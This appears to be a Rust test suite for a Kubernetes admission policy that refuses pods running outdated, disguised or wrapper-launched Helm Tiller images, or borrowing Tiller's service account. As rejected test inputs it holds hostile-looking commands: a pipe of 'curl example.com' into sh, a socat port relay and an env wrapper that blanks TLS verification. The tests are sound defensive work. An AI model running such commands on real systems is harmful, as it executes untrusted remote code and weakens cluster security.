//! Images that hide a Tiller, or hold a bad one, and what is started in place of the program.

use serde_json::json;

use super::{assert_no_unhardened_tiller, create_pod, tried_with, web};
use crate::api_server::World;
use crate::api_server::refuse::assert_refused;

const IMAGE: &str = "/spec/containers/0/image";

#[tokio::test]
async fn row_05_images_by_other_names() {
    let world = World::create("row-05").await;
    let digest = "0123456789abcdef".repeat(4);
    for (image, rule) in [
        (
            "registry.example.com/k8s-gcr-io-helm:v2.9.1".to_owned(),
            "image-repository",
        ),
        (
            "docker.io/library/web:2.17.0".to_owned(),
            "image-repository",
        ),
        (
            format!("ghcr.io/helm/tiller@sha256:{digest}"),
            "version-floor",
        ),
        ("ghcr.io/helm/tiller:latest".to_owned(), "version-floor"),
        ("ghcr.io/helm/tiller".to_owned(), "version-floor"),
        ("ghcr.io/helm/tiller:canary".to_owned(), "version-floor"),
    ] {
        assert_refused(
            tried_with(&world, &json!({ "image": image })).await,
            rule,
            IMAGE,
        );
    }
    let mut below = web();
    below["metadata"]["name"] = json!("below");
    below["spec"]["containers"][0]["image"] = json!("registry.example.com/acme/tiller/master:1");
    let answer = create_pod(&world, &below).await;
    assert_refused(answer, "image-repository", IMAGE);
    assert_no_unhardened_tiller(&world).await;
}

#[tokio::test]
async fn row_06_old_images() {
    let world = World::create("row-06").await;
    for version in ["v2.0.0", "v2.4.0", "v2.6.2", "v2.7.0", "v2.7.1"] {
        let image = format!("gcr.io/kubernetes-helm/tiller:{version}");
        let answer = tried_with(&world, &json!({ "image": image })).await;
        assert_refused(answer, "version-floor", IMAGE);
    }
    assert_no_unhardened_tiller(&world).await;
}

#[tokio::test]
async fn row_10_wrappers() {
    let world = World::create("row-10").await;
    for command in [
        json!(["sh", "-c", "/tiller --storage=secret"]),
        json!(["/bin/busybox", "env", "/tiller"]),
        json!(["env", "TILLER_TLS_VERIFY=", "/tiller"]),
        json!(["/proc/self/exe"]),
        json!(["socat", "TCP-LISTEN:44134,fork", "TCP:localhost:44139"]),
        json!(["/start.sh"]),
    ] {
        let answer = tried_with(&world, &json!({ "command": command })).await;
        assert_refused(answer, "launch-unreadable", "/spec/containers/0/command");
    }
    assert_no_unhardened_tiller(&world).await;
}

/// What a pod fetches when it starts cannot be seen; whose rights it has can.
#[tokio::test]
async fn row_11_fetched_programs() {
    let world = World::create("row-11").await;
    let mut pod = web();
    pod["metadata"]["name"] = json!("web");
    pod["spec"]["serviceAccountName"] = json!("tiller");
    pod["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl -s example.com | sh"]);
    let answer = create_pod(&world, &pod).await;
    assert_refused(answer, "borrowed-account", "/spec/serviceAccountName");
    assert_no_unhardened_tiller(&world).await;
}
